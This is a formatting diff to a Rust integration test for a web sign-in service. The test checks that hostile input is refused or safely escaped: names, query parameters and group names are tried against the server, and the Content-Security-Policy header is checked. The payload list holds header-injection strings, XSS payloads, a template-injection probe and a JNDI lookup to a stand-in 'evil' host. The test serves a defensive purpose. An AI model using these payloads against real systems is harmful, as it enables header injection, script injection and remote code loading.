@@ -6,8 +6,18 @@ use vestibule::authn::accounts::NewAccount;
 use vestibule::domain::account::PasswordHash;
 
 const NASTY: &[&str] = &[
-    "a\r\nX-Evil: 1", "a\nSet-Cookie: evil=1", "a\0b", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
-    "'-alert(1)-'", "{{7*7}}", "${jndi:ldap://evil}", "%0d%0aX-Evil: 1", "\u{202e}evil", "\u{2028}x", "\u{1b}[31mred",
+    "a\r\nX-Evil: 1",
+    "a\nSet-Cookie: evil=1",
+    "a\0b",
+    "<script>alert(1)</script>",
+    "\"><img src=x onerror=alert(1)>",
+    "'-alert(1)-'",
+    "{{7*7}}",
+    "${jndi:ldap://evil}",
+    "%0d%0aX-Evil: 1",
+    "\u{202e}evil",
+    "\u{2028}x",
+    "\u{1b}[31mred",
 ];
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
@@ -19,25 +29,41 @@ async fn a_name_typed_in_is_text_and_nothing_else() {
         assert_eq!(answer.status, 422, "{name:?}");
         let (head, text) = (&answer.head, answer.text());
         assert!(!head.to_lowercase().contains("evil"), "{name:?}: {head}");
-        assert!(!text.contains("<script>alert") && !text.contains("<img src=x"), "{name:?}");
+        assert!(
+            !text.contains("<script>alert") && !text.contains("<img src=x"),
+            "{name:?}"
+        );
     }
     for lang in NASTY {
         let mut query = url::form_urlencoded::Serializer::new(String::new());
-        query.append_pair("lang", lang).append_pair("to", lang).append_pair(lang, lang);
+        query
+            .append_pair("lang", lang)
+            .append_pair("to", lang)
+            .append_pair(lang, lang);
         let query = query.finish();
         let mut b = site.browser();
         for path in ["/signin", "/nothing-here", "/signed-out"] {
             let answer = b.page(&format!("{path}?{query}")).await;
             assert!(answer.status < 500, "{path} {lang:?}");
-            assert!(!answer.head.to_lowercase().contains("x-evil"), "{}", answer.head);
+            assert!(
+                !answer.head.to_lowercase().contains("x-evil"),
+                "{}",
+                answer.head
+            );
             let text = answer.text();
-            assert!(!text.contains("<script>alert") && !text.contains("<img src=x"), "{path} {lang:?}");
+            assert!(
+                !text.contains("<script>alert") && !text.contains("<img src=x"),
+                "{path} {lang:?}"
+            );
         }
     }
     // whatever is shown, script from anywhere but our own files does not run
     let page = site.browser().page("/signin").await;
     let policy = page.header("content-security-policy").unwrap();
-    assert!(policy.contains("script-src 'self'") && !policy.contains("unsafe"), "{policy}");
+    assert!(
+        policy.contains("script-src 'self'") && !policy.contains("unsafe"),
+        "{policy}"
+    );
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
@@ -56,7 +82,11 @@ async fn names_of_people_and_groups_stay_within_their_header() {
         let groups = [(*nasty).to_owned()].into();
         let id = site.find(&login).await.id;
         let made = site.office.authn.set_groups(id, groups).await.unwrap();
-        assert_eq!(made.is_err(), nasty.chars().any(|c| c == ',' || c.is_control()), "{nasty:?}");
+        assert_eq!(
+            made.is_err(),
+            nasty.chars().any(|c| c == ',' || c.is_control()),
+            "{nasty:?}"
+        );
         let mut b = site.browser();
         b.agent = format!("agent {}", nasty.replace(char::is_control, " "));
         let page = b.open(&site.url(WIKI, "/")).await;
@@ -65,17 +95,34 @@ async fn names_of_people_and_groups_stay_within_their_header() {
         let answer = b.follow(answer).await;
         // served, or refused: never passed on as another header
         let seen = site.wiki.take();
-        assert_eq!(seen.len(), usize::from(answer.status == 200), "{nasty:?}: {}", answer.head);
+        assert_eq!(
+            seen.len(),
+            usize::from(answer.status == 200),
+            "{nasty:?}: {}",
+            answer.head
+        );
         for head in seen {
-            let names: Vec<String> = head.split(['\r', '\n']).filter_map(|l| l.split_once(':')).map(|(n, _)| n.to_ascii_lowercase()).collect();
-            assert!(!names.iter().any(|n| n.contains("evil") || n == "set-cookie"), "{nasty:?}: {head}");
+            let names: Vec<String> = head
+                .split(['\r', '\n'])
+                .filter_map(|l| l.split_once(':'))
+                .map(|(n, _)| n.to_ascii_lowercase())
+                .collect();
+            assert!(
+                !names
+                    .iter()
+                    .any(|n| n.contains("evil") || n == "set-cookie"),
+                "{nasty:?}: {head}"
+            );
             assert!(!head.contains('\0'));
             assert_eq!(names.iter().filter(|n| *n == "remote-user").count(), 1);
         }
         // the pages that call the person by name
         let page = b.page("/").await;
         let text = page.text();
-        assert!(!text.contains("<script>alert") && !text.contains("<img src=x"), "{nasty:?}");
+        assert!(
+            !text.contains("<script>alert") && !text.contains("<img src=x"),
+            "{nasty:?}"
+        );
         let _ = (field(&text, "csrf"), LOGIN);
     }
 }
